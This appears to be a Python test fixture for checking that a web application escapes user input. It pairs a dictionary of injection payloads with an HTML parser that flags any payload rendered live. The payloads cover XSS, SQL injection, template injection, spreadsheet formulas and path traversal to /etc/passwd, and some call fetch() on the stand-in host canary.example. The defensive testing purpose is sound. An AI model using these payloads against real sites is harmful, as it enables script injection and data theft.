"""What strangers type to get out of the field that they type in. Each is a text like any other, to
be shown as it was written; none runs, loads, sends, hides or opens anything."""

from __future__ import annotations

import re
from collections.abc import Iterator
from html.parser import HTMLParser

CANARY = "canary.example"
_RUN = f"window.fired=1;fetch(`//{CANARY}`)"

PAYLOADS = {
    "element": f'"><img src=x onerror="{_RUN}">',
    "script": f"</script><script>{_RUN}</script>",
    "event": f"' autofocus onfocus='{_RUN}' onmouseover='fired=1",
    "end of a field": f"</title></textarea><svg onload={_RUN}>",
    "address": f"javascript:{_RUN}",
    "page in an address": "data:text/html,<script>opener.fired=1</script>",
    "nested": f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "entity": f"&lt;img src=x onerror={_RUN}&gt;&#60;script&#62;",
    "style": f"</style><style>*{{background:url(//{CANARY}/s)}}</style>",
    "pixel": f'<img src="//{CANARY}/p.gif"><link rel=prefetch href=//{CANARY}/l>',
    "way elsewhere": f'<base href="//{CANARY}/"><meta http-equiv=refresh content="0;//{CANARY}/">',
    "form": f'</form><form action="//{CANARY}/"><button autofocus>Kirjaudu',
    "globals": '__proto__ constructor <a id="config" name="body"><form name=given>',
    "template": "{{7*7}} {% raw %} ${7*7} <%=7*7%> #{7*7} {agent} {0.__class__} %s %(x)s",
    "query": "'; SELECT pg_sleep(3); -- \\' OR 1=1",
    "formula": f'=HYPERLINK("http://{CANARY}","a")',
    "path": "../../../etc/passwd ..\\..\\x",
    "brackets": '{"type":"closed"} ]]>--> `</template>',
}


_FOREIGN = ("base", "object", "embed", "iframe")


class _Tags(HTMLParser):
    """Every element's beginning, and the text outside of scripts and styles."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.text: list[str] = []
        self._quiet = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))
        self._quiet = tag if tag in ("script", "style") else ""

    def handle_endtag(self, tag: str) -> None:
        if tag == self._quiet:
            self._quiet = ""

    def handle_data(self, data: str) -> None:
        if not self._quiet:
            self.text.append(data)


def live(page: str) -> Iterator[str]:
    """What stands in a page of ours that no page of ours has: a payload that got out."""
    found = _Tags()
    found.feed(page)
    for tag, marks in found.tags:
        on = [name for name in marks if name.startswith("on")]
        framed = tag == "iframe" and marks.get("src", "").startswith("/admin/")  # told what to show
        places = () if framed else ("href", "src", "action", "formaction")
        led = [marks[n] for n in places if n in marks]
        away = [one for one in led if CANARY in one or re.match(r"(?i)\s*(javascript|data):", one)]
        data = ("application/json", "importmap")
        ours = tag != "script" or "src" in marks or marks.get("type") in data
        if on or away or not ours or (tag in _FOREIGN and not framed):
            yield f"<{tag} {marks}>"


def shown(page: str) -> str:
    """What a page says, in texts and fields, each run of blanks as one."""
    found = _Tags()
    found.feed(page)
    typed = [marks.get("value", "") for tag, marks in found.tags if tag in ("input", "button")]
    typed += [marks.get("alt", "") for tag, marks in found.tags if tag == "img"]
    return " ".join(" ".join((*found.text, *typed)).split())
